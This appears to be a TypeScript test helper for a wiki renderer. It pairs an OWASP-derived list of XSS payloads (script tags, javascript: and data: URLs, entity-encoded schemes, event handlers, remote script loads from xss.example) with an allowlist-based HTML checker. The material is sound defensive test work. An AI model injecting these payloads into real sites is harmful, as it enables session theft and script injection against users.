// XSS vectors (the OWASP XSS filter-evasion cheat sheet's cases and more) and a checker
// for rendered HTML: it tokenizes the HTML the way a browser starts to (tags, attributes,
// entities, comments) and accepts only an allowlist of elements, no event handlers and
// only http(s), mailto, tel or relative URLs. Every vector, when executed, calls
// alert/confirm/prompt or sets window.__xss, so the browser test can also prove that no
// rendered output runs script.

export const XSS_VECTORS: string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>',
  '<script>window.__xss=1</script>',
  '"><script>alert(1)</script>',
  "'><script>alert(1)</script>",
  '</textarea><script>alert(1)</script>',
  '</title><script>alert(1)</script>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<SCRIPT/XSS SRC="https://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT/SRC="https://xss.example/xss.js"></SCRIPT>',
  '<SCRIPT SRC=//xss.example/.j>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=javascript:alert(\'XSS\')>',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>',
  '<IMG SRC=# onmouseover="alert(\'xxs\')">',
  '<IMG SRC= onmouseover="alert(\'xxs\')">',
  '<IMG onmouseover="alert(\'xxs\')">',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
  '<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041>',
  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
  '<IMG SRC="jav&#x0D;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<IMG SRC="javascript:alert(\'XSS\')"',
  '<iframe src=http://xss.example/scriptlet.html <',
  '<IFRAME SRC="javascript:alert(\'XSS\');"></IFRAME>',
  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<BODY BACKGROUND="javascript:alert(\'XSS\')">',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<INPUT TYPE="IMAGE" SRC="javascript:alert(\'XSS\');">',
  '<input autofocus onfocus=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror="alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
  '<STYLE>@import\'http://xss.example/xss.css\';</STYLE>',
  '<STYLE>li {list-style-image: url("javascript:alert(\'XSS\')");}</STYLE><UL><LI>XSS</br>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<DIV STYLE="width: expression(alert(\'XSS\'));">',
  '<IMG STYLE="xss:expr/*XSS*/ession(alert(\'XSS\'))">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
  '<TABLE BACKGROUND="javascript:alert(\'XSS\')">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.example/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<BASE HREF="javascript:alert(\'XSS\');//">',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="JaVaScRiPt:alert(1)">click</a>',
  '<a href="&#106;avascript:alert(1)">click</a>',
  '<a href="  javascript:alert(1)">click</a>',
  '<a href="vbscript:msgbox(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href=javascript&colon;alert(1)>click</a>',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '<button formaction=javascript:alert(1)>go</button>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<xss onafterscriptexecute=alert(1)><script>1</script>',
  '<marquee onstart=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<object data="javascript:alert(1)">',
  '\'"--></style></script><script>alert(1)</script>',
  '`"><img src=x onerror=alert(1)>',
  '%3Cscript%3Ealert(1)%3C/script%3E',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '\u003cscript\u003ealert(1)\u003c/script\u003e',
  '＜script＞alert(1)＜/script＞',
  '[link|javascript:alert(1)]',
  '[javascript:alert(1) click]',
  '[[javascript:alert(1)|click]]',
  '[url=javascript:alert(1)]click[/url]',
  '[image|x" onerror="alert(1)]',
  '[image|1 onerror=alert(1)]',
  '[video|1"><script>alert(1)</script>]',
  '[guide|1"><script>alert(1)</script>]',
  '[[Page"><script>alert(1)</script>]]',
  '[link|https://ok.example" onmouseover="alert(1)|text]',
  '== <script>alert(1)</script> ==',
  '* <img src=x onerror=alert(1)>',
  '\'\'\'<script>alert(1)</script>\'\'\'',
  '`<script>alert(1)</script>`',
  '<code><script>alert(1)</script></code>',
  '<pre><img src=x onerror=alert(1)></pre>',
];

/** Elements rendered wiki text may contain. */
const ALLOWED_TAGS = new Set([
  'a', 'abbr', 'b', 'blockquote', 'br', 'caption', 'cite', 'code', 'col', 'colgroup', 'dd', 'del', 'details', 'div', 'dl', 'dt', 'em',
  'figcaption', 'figure', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'hr', 'i', 'img', 'ins', 'kbd', 'li', 'mark', 'ol', 'p', 'picture', 'pre', 'q',
  's', 'samp', 'small', 'source', 'span', 'strong', 'sub', 'summary', 'sup', 'table', 'tbody', 'td', 'tfoot', 'th', 'thead', 'tr', 'track',
  'u', 'ul', 'var', 'video', 'audio', 'section', 'article', 'aside', 'header', 'footer',
]);
const URL_ATTRS = new Set(['href', 'src', 'srcset', 'poster', 'action', 'formaction', 'background', 'cite', 'data', 'xlink:href', 'longdesc', 'usemap', 'dynsrc', 'lowsrc', 'ping', 'manifest', 'codebase', 'archive']);
const ALLOWED_ATTRS = new Set(['href', 'src', 'srcset', 'alt', 'title', 'width', 'height', 'class', 'id', 'lang', 'dir', 'colspan', 'rowspan', 'start', 'type', 'controls', 'poster', 'preload', 'loading', 'rel', 'target', 'name', 'open', 'reversed', 'scope', 'headers', 'datetime', 'cite', 'value', 'kind', 'srclang', 'label', 'sizes', 'media', 'decoding', 'playsinline', 'muted', 'loop', 'align', 'role', 'style']);

const NAMED: Record<string, string> = { amp: '&', lt: '<', gt: '>', quot: '"', apos: "'", colon: ':', tab: '\t', newline: '\n', nbsp: '\u00a0', sol: '/', lpar: '(', rpar: ')', period: '.', comma: ',' };

/** Decodes character references the way an attribute value is decoded (lenient, as browsers are). */
export function decodeEntities(s: string): string {
  return s.replace(/&(#[xX][0-9a-fA-F]+|#\d+|[a-zA-Z]+);?/g, (m, ref: string) => {
    if (ref[0] === '#') {
      const code = ref[1] === 'x' || ref[1] === 'X' ? parseInt(ref.slice(2), 16) : parseInt(ref.slice(1), 10);
      return Number.isFinite(code) && code > 0 && code < 0x110000 ? String.fromCodePoint(code) : '\ufffd';
    }
    return NAMED[ref.toLowerCase()] ?? m;
  });
}

function urlIsSafe(value: string): boolean {
  // Browsers drop control characters and spaces before resolving the scheme.
  // eslint-disable-next-line no-control-regex
  const v = decodeEntities(value).replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();
  const scheme = /^([a-z][a-z0-9+.-]*):/.exec(v);
  if (!scheme) return true; // relative
  return ['http', 'https', 'mailto', 'tel'].includes(scheme[1]);
}

export interface Tag { name: string; attrs: Array<[string, string]>; closing: boolean }

/** Tags of an HTML fragment, tokenized as the HTML tokenizer does in the data state. */
export function tokenize(html: string): { tags: Tag[]; problems: string[] } {
  const tags: Tag[] = [];
  const problems: string[] = [];
  let i = 0;
  while (i < html.length) {
    const lt = html.indexOf('<', i);
    if (lt < 0) break;
    const next = html[lt + 1] ?? '';
    if (html.startsWith('<!--', lt)) {
      const end = html.indexOf('-->', lt + 4);
      i = end < 0 ? html.length : end + 3;
      continue;
    }
    if (next === '!' || next === '?') {
      // A bogus comment or doctype: harmless as markup, but rendered wiki text has no business making one.
      problems.push(`markup declaration in output: ${html.slice(lt, lt + 40)}`);
      const end = html.indexOf('>', lt);
      i = end < 0 ? html.length : end + 1;
      continue;
    }
    const closing = next === '/';
    const start = lt + (closing ? 2 : 1);
    if (!/[a-zA-Z]/.test(html[start] ?? '')) {
      i = lt + 1;
      continue;
    }
    let j = start;
    while (j < html.length && !/[\s/>]/.test(html[j])) j++;
    const name = html.slice(start, j).toLowerCase();
    const attrs: Array<[string, string]> = [];
    // Attributes until '>'.
    while (j < html.length && html[j] !== '>') {
      if (/[\s/]/.test(html[j])) {
        j++;
        continue;
      }
      let k = j;
      while (k < html.length && !/[\s/>=]/.test(html[k])) k++;
      if (k === j) k++; // an '=' at the start of an attribute name is part of it
      const attrName = html.slice(j, k).toLowerCase();
      j = k;
      while (j < html.length && /\s/.test(html[j])) j++;
      let value = '';
      if (html[j] === '=') {
        j++;
        while (j < html.length && /\s/.test(html[j])) j++;
        const q = html[j];
        if (q === '"' || q === "'") {
          const end = html.indexOf(q, j + 1);
          value = html.slice(j + 1, end < 0 ? html.length : end);
          j = end < 0 ? html.length : end + 1;
        } else {
          let e = j;
          while (e < html.length && !/[\s>]/.test(html[e])) e++;
          value = html.slice(j, e);
          j = e;
        }
      }
      attrs.push([attrName, value]);
    }
    tags.push({ name, attrs, closing });
    i = j + 1;
  }
  return { tags, problems };
}

/** What makes this HTML unsafe to insert into a page, or [] when it is safe. */
export function htmlProblems(html: string): string[] {
  const { tags, problems } = tokenize(html);
  for (const t of tags) {
    if (!ALLOWED_TAGS.has(t.name)) {
      problems.push(`element <${t.name}>`);
      continue;
    }
    for (const [name, value] of t.attrs) {
      if (name.startsWith('on')) problems.push(`event handler ${name} on <${t.name}>`);
      else if (!ALLOWED_ATTRS.has(name) && !name.startsWith('data-') && !name.startsWith('aria-')) problems.push(`attribute ${name} on <${t.name}>`);
      if (URL_ATTRS.has(name)) {
        const urls = name === 'srcset' ? value.split(',').map((p) => p.trim().split(/\s+/)[0]) : [value];
        for (const u of urls) if (!urlIsSafe(u)) problems.push(`${name}="${value.slice(0, 60)}" on <${t.name}>`);
      }
      if (name === 'style' && /expression|url\s*\(|javascript:|behavior|binding|@import/i.test(decodeEntities(value).replace(/\/\*.*?\*\//g, '').replace(/\\/g, ''))) problems.push(`style="${value.slice(0, 60)}" on <${t.name}>`);
    }
  }
  return problems;
}
